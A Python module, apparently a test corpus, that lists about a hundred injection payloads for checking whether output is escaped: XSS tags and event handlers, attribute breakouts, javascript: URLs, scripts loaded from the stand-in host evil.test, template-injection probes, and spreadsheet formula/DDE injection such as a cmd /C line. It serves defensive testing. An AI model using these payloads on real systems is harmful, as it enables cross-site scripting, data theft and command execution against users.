"""A hundred texts that act wherever they are not taken as text. `zqx` marks what they would make or call."""

MARK = "zqx"
RECKONED = "60481729"  # 7777 * 7777, where a template is filled in twice

ELEMENTS = """
<script>zqx()</script>
<ScRiPt>zqx()</sCrIpT>
<script src=//evil.test/zqx.js></script>
"><script>zqx()</script>
'><script>zqx()</script>
</title><script>zqx()</script>
</textarea><script>zqx()</script>
</script><script>zqx()</script>
</style><script>zqx()</script>
--><script>zqx()</script>
]]><script>zqx()</script>
<scr<script>ipt>zqx()</script>
<img src=x onerror=zqx()>
<img/src=x/onerror=zqx()>
"><img src=x onerror=zqx()>
<img src=//evil.test/zqx.png>
<img srcset=//evil.test/zqx.png>
<svg onload=zqx()>
<svg/onload=zqx()>
"><svg onload=zqx()>
</text><svg onload=zqx()>
</svg><script>zqx()</script>
<svg><script>zqx()</script></svg>
<svg><a href=javascript:zqx()>a</a>
<svg><use href=//evil.test/z.svg#zqx>
<svg><set onbegin=zqx()>
<svg><animate onbegin=zqx()>
<g zqx="1"><text>a</text></g>
<foreignObject><p zqx>a
<math><mi href=javascript:zqx()>a
<body onload=zqx()>
<details open ontoggle=zqx()>
<input autofocus onfocus=zqx()>
<select autofocus onfocus=zqx()>
<video src=x onerror=zqx()>
<audio src=x onerror=zqx()>
<iframe src=javascript:zqx()>
<iframe srcdoc=zqx>
<object data=//evil.test/zqx>
<embed src=//evil.test/zqx>
<base href=//evil.test/zqx/>
<meta http-equiv=refresh content=0;//z>
<link rel=stylesheet href=//evil.test/z>
<link rel=prefetch href=//evil.test/zqx>
<form action=//evil.test><button>zqx
<button formaction=javascript:zqx()>a
<a href=javascript:zqx()>a</a>
<a href="java&#10;script:zqx()">a</a>
<a href=data:text/html,zqx>a</a>
<style>*{background:url(//evil.test)}
<style>@import '//evil.test/z';</style>
<p style=background:url(//evil.test)>a
<zqx-el>a</zqx-el>
<b zqx=1>bold</b>
<p hx-get=/ hx-trigger=load zqx>
<p data-hx-get=//evil.test/ zqx>
<template><b zqx></template>
<noscript><p title="</noscript><i zqx>">
<xmp zqx><plaintext>
<!--><b zqx>-->
<![CDATA[<b zqx>]]>
<?xml-stylesheet href="//evil.test"?>
<!DOCTYPE a [<!ENTITY zqx "a">]>&zqx;
""".strip().splitlines()

ATTRIBUTES = """
" onmouseover="zqx()
' onmouseover='zqx()
" autofocus onfocus="zqx()
` onmouseover=`zqx()
" zqx="1
' zqx='1
" hx-on:click="zqx()
" hx-get="//evil.test
x" onload="zqx()
" style="background:url(//evil.test)
javascript:zqx()
JaVaScRiPt:zqx()
//evil.test/zqx
data:text/html,<script>zqx()</script>
""".strip().splitlines()

SYNTAX = [
    "{{ 7777*7777 }}", "${7777*7777}", "{% debug %}", "{% load zqx %}", "{{ request.user.password }}",
    "&lt;script&gt;zqx()&lt;/script&gt;", "&#60;b zqx&#62;", "&amp;lt;b zqx&amp;gt;", "\\x3cb zqx\\x3e",
    "\\u003cb zqx\\u003e", "%3Cb zqx%3E", "\uff1cb zqx\uff1e", "\u202etxt.zqx\u202c", "\u2066zqx\u2069\u200f",
    "=HYPERLINK(\"//evil.test\",\"zqx\")", "@SUM(1)*cmd|' /C zqx'!A0",
    "\"]; zqx [URL=\"javascript:zqx()\"]; x", "<<TABLE HREF=\"//evil.test/zqx\">", "<<b>zqx</b>>", "\\N \\G \\E zqx",
    "a:p:n; zqx [label=x]; z", "];}//zqx", "';zqx();//",
]  # fmt: skip

_EVERY = [*ELEMENTS, *ATTRIBUTES, *SYNTAX]
PAYLOADS = [_EVERY[place * 37 % len(_EVERY)] for place in range(len(_EVERY))]  # those of one kind apart
